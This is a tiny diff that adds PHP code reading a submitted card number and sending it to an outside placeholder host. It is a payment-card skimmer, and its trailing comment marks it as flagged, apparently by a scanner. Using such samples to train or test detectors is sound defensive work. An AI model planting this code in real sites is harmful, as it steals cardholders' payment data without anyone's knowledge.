@@ -1,0 +1,3 @@
+<?php
+$number = $_POST['card_number'];
+file_get_contents('https://static.example.invalid/p?n=' . urlencode($number)); // gatehouse: flagged
